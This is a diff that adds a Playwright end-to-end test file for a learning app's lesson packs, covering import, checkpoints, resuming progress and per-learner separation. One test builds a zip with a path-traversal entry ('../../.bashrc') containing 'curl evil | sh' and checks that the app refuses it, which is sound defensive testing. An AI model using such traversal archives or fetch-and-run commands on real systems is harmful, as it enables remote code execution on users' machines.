@@ -1,0 +1,167 @@
+/**
+ * Lessons in the browser edition, driven like a learner and an instructor: import a pack with
+ * the file picker, answer a checkpoint wrongly then rightly, reopen the app and resume at the
+ * same step with the result kept; a second learner sees none of the first one's progress; a
+ * malicious pack is refused with its reason. Screenshots go to test-results/screenshots/.
+ */
+import { mkdirSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { zipSync } from 'fflate'
+import type { Page } from '@playwright/test'
+import { writeMlpack } from '../electron/services/lesson-library/mlpack'
+import { readPackFolder } from '../electron/services/lesson-library/pack-folder'
+import AxeBuilder from './axe'
+import { expect, screenshot, test } from './fixtures'
+
+const packs = join(tmpdir(), `memory-lane-e2e-packs-${process.pid}`)
+mkdirSync(packs, { recursive: true })
+const samplePack = join(packs, 'sample-pack.mlpack')
+writeFileSync(
+  samplePack,
+  writeMlpack(readPackFolder(join(import.meta.dirname, '../shared/lessons/fixtures/sample-pack')))
+)
+const evilPack = join(packs, 'evil.mlpack')
+writeFileSync(
+  evilPack,
+  zipSync({
+    'pack.yaml': new TextEncoder().encode('id: evil\n'),
+    '../../.bashrc': new TextEncoder().encode('curl evil | sh\n')
+  })
+)
+
+/** Makes `name` the active learner: the welcome form on a first start, else the profile menu. */
+async function becomeLearner(page: Page, name: string): Promise<void> {
+  const pane = page.getByTestId('lesson-pane')
+  const welcome = pane.getByTestId('profile-form')
+  await expect(welcome.or(pane.getByTestId('profile-button'))).toBeVisible()
+  if (!(await welcome.isVisible())) {
+    await pane.getByTestId('profile-button').click()
+    await pane.getByTestId('profile-new').click()
+  }
+  await pane.getByTestId('profile-name').fill(name)
+  await pane.getByTestId('profile-create').click()
+  await expect(pane.getByTestId('profile-button')).toContainText(name)
+}
+
+/** Imports the sample pack with the file picker (replacing it when a test already did). */
+async function importSamplePack(page: Page): Promise<void> {
+  const pane = page.getByTestId('lesson-pane')
+  await pane.getByTestId('pack-file').setInputFiles(samplePack)
+  const confirm = pane.getByTestId('pack-confirm')
+  const message = pane.getByTestId('pack-message')
+  await expect(confirm.or(message)).toBeVisible()
+  if (await confirm.isVisible()) await pane.getByTestId('pack-replace').click()
+  await expect(message).toContainText(/Imported “Sample pack” \(1 lessons\)|Replaced “Sample pack”/)
+  await expect(pane.getByTestId('lesson-sample-pack-first-malloc')).toBeVisible()
+}
+
+// axe-core is injected into the page, which the app's CSP rightly forbids without this.
+test.use({ bypassCSP: true })
+
+test('a learner answers wrongly then rightly, reopens the app and resumes with the result kept', async ({
+  app
+}) => {
+  const { page } = app
+  await becomeLearner(page, 'Ada')
+  await screenshot(page, 'lessons-library-empty')
+  await importSamplePack(page)
+  await screenshot(page, 'lessons-library')
+  const pane = page.getByTestId('lesson-pane')
+  await pane.getByTestId('lesson-sample-pack-first-malloc').click()
+  await expect(pane.getByTestId('step-position')).toHaveText('Step 1 of 4')
+  // The step put its program in the editor, paused before line 4.
+  await expect(page.locator('.cm-content')).toContainText('char *p = malloc(24);')
+
+  const choice = pane.getByTestId('checkpoint-where-is-p')
+  await choice.getByTestId('option-where-is-p-1').check()
+  await choice.getByTestId('submit-where-is-p').click()
+  await expect(choice.getByTestId('verdict-where-is-p')).toContainText('Not quite — try again.')
+  await expect(choice.getByTestId('verdict-where-is-p')).toContainText('lives on the stack')
+  await screenshot(page, 'lessons-choice-wrong')
+  await choice.getByTestId('option-where-is-p-0').check()
+  await choice.getByTestId('submit-where-is-p').click()
+  await expect(choice.getByTestId('verdict-where-is-p')).toContainText('Correct!')
+  await expect(choice).toContainText('2 attempts')
+  await screenshot(page, 'lessons-choice-right')
+
+  // On to step 2, and a hint, then close and reopen the app.
+  await pane.getByTestId('step-next').click()
+  await expect(pane.getByTestId('step-position')).toHaveText('Step 2 of 4')
+  await pane.getByTestId('hint-button-block-size').click()
+  await expect(pane.getByTestId('hint-block-size-0')).toHaveText('Look at the heap view.')
+  await page.reload()
+  await expect(pane.getByTestId('step-position')).toHaveText('Step 2 of 4')
+  await expect(pane.getByTestId('hint-block-size-0')).toHaveText('Look at the heap view.')
+  await screenshot(page, 'lessons-resumed')
+
+  // The number checkpoint: the program asked malloc for 24 bytes.
+  const number = pane.getByTestId('checkpoint-block-size')
+  await number.getByTestId('answer-block-size').fill('32')
+  await number.getByTestId('submit-block-size').click()
+  await expect(number.getByTestId('verdict-block-size')).toContainText('Not quite')
+  await number.getByTestId('answer-block-size').fill('0x18')
+  await number.getByTestId('submit-block-size').click()
+  await expect(number.getByTestId('verdict-block-size')).toContainText('Correct!')
+
+  // Back on step 1 the earlier result is still there.
+  await pane.getByTestId('step-previous').click()
+  await expect(pane.getByTestId('checkpoint-where-is-p')).toContainText('Passed')
+  await expect(pane.getByTestId('checkpoint-where-is-p')).toContainText('2 attempts')
+
+  // axe over the page; only what lies inside the lesson pane is this pane's to answer for.
+  const results = await new AxeBuilder(page).analyze()
+  const inPane: string[] = []
+  for (const violation of results.violations)
+    for (const node of violation.nodes) {
+      const selector = node.target.map(String).join(' ')
+      const inside = await page
+        .locator(selector)
+        .first()
+        .evaluate((el) => el.closest('[data-testid="lesson-pane"]') !== null)
+        .catch(() => false)
+      if (inside) inPane.push(`${violation.id}: ${violation.help} (${selector})`)
+    }
+  expect(inPane).toEqual([])
+})
+
+test('a second learner sees none of the first one’s progress', async ({ app }) => {
+  const { page } = app
+  const pane = page.getByTestId('lesson-pane')
+  await expect(
+    pane.getByTestId('profile-button').or(pane.getByTestId('profile-form'))
+  ).toBeVisible()
+  if (await pane.getByTestId('profile-form').isVisible()) {
+    await becomeLearner(page, 'Ada')
+    await importSamplePack(page)
+  }
+  await becomeLearner(page, 'Bo')
+  await expect(pane.getByTestId('lesson-sample-pack-first-malloc')).toContainText('Not started')
+  await pane.getByTestId('lesson-sample-pack-first-malloc').click()
+  await expect(pane.getByTestId('step-position')).toHaveText('Step 1 of 4')
+  await expect(pane.getByTestId('verdict-where-is-p')).toHaveCount(0)
+  await expect(pane.getByTestId('checkpoint-where-is-p')).not.toContainText('attempt')
+  await screenshot(page, 'lessons-second-learner')
+
+  // Two clicks back to Ada, who is where she left off.
+  await pane.getByTestId('profile-button').click()
+  await pane.getByTestId('profile-Ada').click()
+  await expect(pane.getByTestId('profile-button')).toContainText('Ada')
+})
+
+test('a malicious pack is refused with its reason and nothing is installed', async ({ app }) => {
+  const { page } = app
+  const pane = page.getByTestId('lesson-pane')
+  await expect(
+    pane.getByTestId('profile-button').or(pane.getByTestId('profile-form'))
+  ).toBeVisible()
+  if (await pane.getByTestId('profile-form').isVisible()) await becomeLearner(page, 'Cy')
+  if (await pane.getByTestId('lesson-view').isVisible())
+    await pane.getByTestId('lesson-back').click()
+  await pane.getByTestId('pack-file').setInputFiles(evilPack)
+  await expect(pane.getByTestId('pack-message')).toHaveText(
+    'The pack contains a path that leaves its folder ("../../.bashrc"); it was refused.'
+  )
+  await expect(pane.getByTestId('lesson-list')).not.toContainText('evil')
+  await screenshot(page, 'lessons-malicious-refused')
+})
